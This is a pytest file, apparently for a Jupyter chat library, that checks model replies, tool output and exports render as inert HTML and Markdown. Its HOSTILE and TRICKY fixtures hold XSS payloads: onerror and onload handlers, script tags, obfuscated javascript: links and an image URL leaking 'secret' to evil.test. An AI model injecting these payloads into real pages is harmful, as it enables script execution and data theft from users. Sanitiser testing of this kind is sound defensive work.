@@ -1,0 +1,312 @@
+"""One model of a turn, one layout: what cells, the panel and stored turns show.
+
+Turns are real: a Session talks to the fake server over HTTP and the events it emits
+are folded into a ``TurnView``. Hostile replies come from the fake server too.
+"""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from typing import Any
+
+import mistune
+import pytest
+
+import nbchat
+from nbchat._markup import money, safe_markdown, to_html
+from nbchat._render import LIVE_TAIL, TextPart, TurnView, history_views
+from nbchat._types import Event
+from nbchat.testing import FakeOpenAIServer
+
+HOSTILE = (
+    'Hello <img src=x onerror="window.pwned=1"> and <iframe srcdoc="<script>'
+    'window.pwned=2</script>"></iframe>\n\n<details open><summary>click</summary>'
+    "<script>window.pwned=3</script></details>\n\n![leak](http://evil.test/p.png?d=secret)"
+    " [x](javascript:window.pwned=4) <svg onload=alert(1)>"
+)
+LIVE_TAGS = {"img", "iframe", "script", "svg", "object", "embed", "style", "link", "meta"}
+
+
+class Tags(HTMLParser):
+    """Every tag and attribute an HTML string would create in a browser."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, attrs))
+
+
+def tags_of(html_text: str) -> Tags:
+    parser = Tags()
+    parser.feed(html_text)
+    return parser
+
+
+def assert_inert(html_text: str) -> None:
+    """No tag that loads or runs anything, no event handler, no script URL."""
+    for tag, attrs in tags_of(html_text).tags:
+        assert tag not in LIVE_TAGS, (tag, html_text)
+        for name, value in attrs:
+            assert not name.startswith("on"), (tag, name)
+            # (browsers ignore tabs and newlines in a URL's scheme)
+            url = re.sub(r"[\x00-\x20]", "", value or "").lower()
+            assert not url.startswith(("javascript:", "vbscript:", "data:")), (tag, value)
+
+
+# Markdown as Jupyter renders it: raw HTML passes through (a trusted output is not
+# sanitised), so whatever HTML the Markdown contains would be live.
+_jupyter_like = mistune.create_markdown(escape=False, plugins=["strikethrough", "table"])
+
+
+def run_turn(fake: FakeOpenAIServer, text: str = "hi", **session: Any) -> list[Event]:
+    events: list[Event] = []
+    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False, max_retries=0, **session)
+    s.send(text, on_event=events.append)
+    return events
+
+
+def view_of(events: list[Event]) -> TurnView:
+    view = TurnView("fake-model")
+    for event in events:
+        view.handle(event)
+    return view
+
+
+def test_a_hostile_reply_is_inert_as_html_and_as_markdown(fake: FakeOpenAIServer) -> None:
+    fake.enqueue(HOSTILE, chunk_size=7)
+    view = view_of(run_turn(fake))
+    for live in (True, False):
+        shown = view.html(live=live)
+        assert_inert(shown)
+        assert "<details" not in shown  # the model's <details> is text
+        assert "&lt;img src=x onerror=" in shown and "&lt;details open&gt;" in shown
+        assert 'href="http://evil.test/p.png?d=secret"' in shown  # a link, not a fetch
+        markdown = view.markdown(live=live)
+        assert_inert(_jupyter_like(markdown))
+        assert "<details" not in _jupyter_like(markdown)
+
+
+def test_tool_arguments_and_results_are_escaped(fake: FakeOpenAIServer) -> None:
+    def echo(text: str) -> str:
+        """Echo the text."""
+        return text
+
+    evil = "<img src=x onerror=alert(1)></pre><script>alert(2)</script>"
+    fake.enqueue(tool_calls=[{"name": "echo", "arguments": {"text": evil}}])
+    fake.enqueue("done")
+    view = view_of(run_turn(fake, tools=[echo]))
+    shown = view.html()
+    assert_inert(shown)
+    assert shown.count("&lt;img src=x onerror=alert(1)&gt;") == 2  # arguments and result
+
+
+def test_prices_are_not_math_and_math_stays_tex(fake: FakeOpenAIServer) -> None:
+    reply = (
+        "It costs $5 per month and $20 per year. Inline $x^2$ and \\(a_1 \\, b\\), "
+        "display $$\\sum_{i=1}^n i$$ and \\[E = mc^2\\]. Code: `echo $HOME`."
+    )
+    fake.enqueue(reply)
+    view = view_of(run_turn(fake))
+    shown = view.html()
+    usd = '<span class="nbchat-usd">$</span>'
+    assert f"{usd}5 per month and {usd}20 per year" in shown
+    for tex in ("$x^2$", "\\(a_1 \\, b\\)", "$$\\sum_{i=1}^n i$$", "\\[E = mc^2\\]"):
+        assert f'<span class="nbchat-math">{tex}</span>' in shown, tex  # \\, survives
+    assert "<code>echo $HOME</code>" in shown
+    # Outside math, no two bare dollars can pair up: every other $ is in an element.
+    # (MathJax never looks into <code>.)
+    outside = re.sub(r'<span class="nbchat-math">.*?</span>|<code>.*?</code>', "", shown)
+    assert outside.count("$") == outside.count(usd)
+    # The Markdown rendition: \$ for prices, \\( for Jupyter's math finder.
+    markdown = view.markdown()
+    assert "<span>\\$</span>5 per month" in markdown and "$x^2$" in markdown
+    assert "\\\\(a_1 \\, b\\\\)" in markdown
+
+
+def test_own_lines_protect_their_dollars_and_money_has_one_style() -> None:
+    assert money(0.000119) == "$0.000119"
+    assert money(1e-05) == "$0.00001"
+    assert money(0.0012) == "$0.0012"
+    assert money(2.5) == "$2.50"
+    assert money(0) == "$0.00"
+    view = TurnView("m")
+    view.handle(nbchat.Notice(message="$0.000119 spent of $1e-05"))
+    shown = view.html()
+    assert "$0" not in shown.replace('<span class="nbchat-usd">$</span>', "")
+
+
+def test_the_turn_is_laid_out_in_the_order_it_happened(fake: FakeOpenAIServer) -> None:
+    def lookup(key: str) -> str:
+        """Look a value up."""
+        return {"a": "1", "b": "2"}[key]
+
+    fake.enqueue(
+        "Let me look that up.",
+        tool_calls=[
+            {"name": "lookup", "arguments": {"key": "a"}},
+            {"name": "lookup", "arguments": {"key": "b"}},
+        ],
+    )
+    fake.enqueue("Both values found: 1 and 2.")
+    events = run_turn(fake, tools=[lookup])
+    view = view_of(events)
+    shown = view.html()
+    first, second = shown.index("Let me look that up."), shown.index("Both values found")
+    blocks = [m.start() for m in re.finditer("<details>", shown)]
+    assert len(blocks) == 2 and first < blocks[0] < blocks[1] < second
+    assert "up.Both" not in shown and "up.Both" not in view.markdown()
+    # Live: the blocks are there as soon as the calls start, running, before results.
+    live = TurnView("m")
+    for event in events:
+        live.handle(event)
+        if event.kind == "tool_call_started":
+            break
+    assert "Let me look that up." in live.html(live=True)
+    assert "running… " in live.html(live=True)
+
+
+def test_reasoning_is_a_thinking_block_closed_once_the_answer_starts(
+    fake: FakeOpenAIServer,
+) -> None:
+    fake.enqueue("The answer is 4.", reasoning="2 + 2: add the units.")
+    events = run_turn(fake)
+    thinking = TurnView("m")
+    for event in events:
+        thinking.handle(event)
+        if event.kind == "text_delta":
+            break
+        if event.kind == "reasoning_delta":
+            assert '<details class="nbchat-thinking" open>' in thinking.html(live=True)
+    final = view_of(events).html()
+    assert '<details class="nbchat-thinking"><summary>💭 Thinking</summary>' in final
+    assert final.index("add the units") < final.index("The answer is 4.")
+
+
+def test_a_max_rounds_stop_is_said_once(fake: FakeOpenAIServer) -> None:
+    def ping() -> str:
+        """Answer pong."""
+        return "pong"
+
+    fake.enqueue(tool_calls=[{"name": "ping", "arguments": {}}])
+    fake.enqueue("Stopping here.")
+    view = view_of(run_turn(fake, max_rounds=1, tools=[ping]))
+    shown = view.html()
+    assert view.result is not None and view.result.status == "max_rounds"
+    assert shown.count("rounds of tool calls") == 1 and "tool-call limit" not in shown
+
+
+def test_python_code_and_tracebacks_are_shown_as_code(fake: FakeOpenAIServer) -> None:
+    code = "x = 1\nraise ValueError('boom')"
+    fake.enqueue(tool_calls=[{"name": "python", "arguments": {"code": code}}])
+    fake.enqueue("It failed.")
+    tool = nbchat.python_tool({}, approval="auto")
+    shown = view_of(run_turn(fake, tools=[tool])).html()
+    plain = re.sub(r"<[^>]+>", "", shown)
+    assert "x = 1\nraise ValueError('boom')" in plain
+    assert "\\n" not in plain  # no JSON-escaped line breaks
+    assert "Traceback (most recent call last):\n" in plain and "ValueError: boom" in plain
+
+
+def test_a_huge_reply_shows_its_tail_live_and_all_of_it_at_the_end() -> None:
+    view = TurnView("m")
+    paragraph = "word " * 40 + "\n\n"
+    text = paragraph * (176_000 // len(paragraph))
+    view.handle(nbchat.TextDelta(text=text))
+    live = view.html(live=True)
+    assert len(live) < 3 * LIVE_TAIL and "characters above" in live
+    assert view.html().count("<p>") == text.count("\n\n")
+
+
+def test_stored_turns_use_the_same_layout(fake: FakeOpenAIServer) -> None:
+    def lookup(key: str) -> str:
+        """Look a value up."""
+        return "1"
+
+    fake.enqueue("First I look.", tool_calls=[{"name": "lookup", "arguments": {"key": "a"}}])
+    fake.enqueue("Found " + HOSTILE)
+    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False, tools=[lookup])
+    s.send("go")
+    (view,) = history_views(s.history)
+    assert view.user_text == "go"
+    shown = view.html()
+    assert_inert(shown)
+    assert shown.index("First I look.") < shown.index("<details>") < shown.index("Found")
+
+
+# Markdown that tries to make the escaper think raw HTML is code (or a link is safe).
+TRICKY = [
+    "<img src=x onerror=alert(1)>",
+    "![a](http://e.test/x.png)",
+    "[x](javascript:alert(1))",
+    "[x](jav&#x61;script:alert(1)) [y](java\tscript:alert(1))",
+    "[x][r]\n\n[r]: javascript:alert(1)",
+    "<details><summary>s</summary>hidden</details>",
+    "- ```\n  code\n  ```\n<img src=x onerror=alert('list-fence')>",
+    "```a`b\n<img src=x onerror=alert('info-backtick')>\n```",
+    "\\`<img src=x onerror=alert('escaped-tick')>`",
+    "`x\n<details open ontoggle=alert('multiline-span')>\ny`",
+    "    ```\n<img src=x onerror=alert('indented-fence')>\n```",
+]
+
+
+@pytest.mark.parametrize("text", TRICKY)
+def test_safe_markdown_renders_inert(text: str) -> None:
+    rendered = _jupyter_like(safe_markdown(text))
+    assert_inert(rendered)
+    assert "<details" not in rendered
+    assert_inert(to_html(text))
+
+
+def test_code_is_left_as_written() -> None:
+    text = "Use `a < b` here.\n\n```html\n<img src=x>\n```\n\n~~~\n<b>\n~~~"
+    assert safe_markdown(text) == text
+
+
+def test_markdown_export_is_escaped(fake: FakeOpenAIServer, tmp_path: Any) -> None:
+    fake.enqueue(HOSTILE + " It costs $5 and $20.")
+    s = nbchat.Session(model="fake-model", base_url=fake.url, db=str(tmp_path / "x.duckdb"))
+    s.send("hi")
+    exported = nbchat.export_session(s.id, format="markdown", db=s.store)
+    assert_inert(_jupyter_like(exported))
+    assert "\\$5 and \\$20" in exported
+
+
+def test_a_stored_conversation_displays_inert(fake: FakeOpenAIServer) -> None:
+    from nbchat._display import Conversation
+
+    fake.enqueue(HOSTILE + " It costs $5 and $20.")
+    s = nbchat.Session(model="fake-model", base_url=fake.url, db=False)
+    s.send("<img src=x onerror=alert(1)> what does it cost?")
+    shown = Conversation(s.history)
+    assert_inert(shown._repr_html_())
+    assert_inert(_jupyter_like(shown._repr_markdown_()))
+    assert "<details" not in shown._repr_html_()
+    assert '<span class="nbchat-usd">$</span>5 and' in shown._repr_html_()
+
+
+def test_live_rendering_keeps_finished_blocks_and_never_splits_code() -> None:
+    from nbchat._render import BLOCK_MIN, _stable_end
+
+    code = "```python\nx = 1\n\n\ny = 2\n```\n\n"
+    assert _stable_end("a\n\n" + code + "tail", 0) == len("a\n\n" + code)
+    assert _stable_end("a\n\n```\nb\n\nc", 0) == 3  # not inside the open fence
+    paragraph = "Some words here, and **bold** ones.\n\n"
+    text = (paragraph * 80 + code) * 4 + "The end."
+    view = TurnView("m")
+    for i in range(0, len(text), 50):
+        view.handle(nbchat.TextDelta(text=text[i : i + 50]))
+        live = view.html(live=True)
+        assert "<p>y = 2" not in live and "<p>```" not in live
+    (part,) = view.parts
+    assert isinstance(part, TextPart) and len(part._blocks) >= len(text) // (2 * BLOCK_MIN)
+    assert view.html() == to_html(text)  # the final rendering is of the whole text
+
+
+def test_dollars_in_link_urls_stay_plain() -> None:
+    out = to_html("[the $5 plan](http://shop.test/p?price=$5&x=$y$) costs $5")
+    assert 'href="http://shop.test/p?price=$5&amp;x=$y$"' in out
+    assert '<span class="nbchat-usd">$</span>5 plan</a>' in out
+    assert_inert(out)
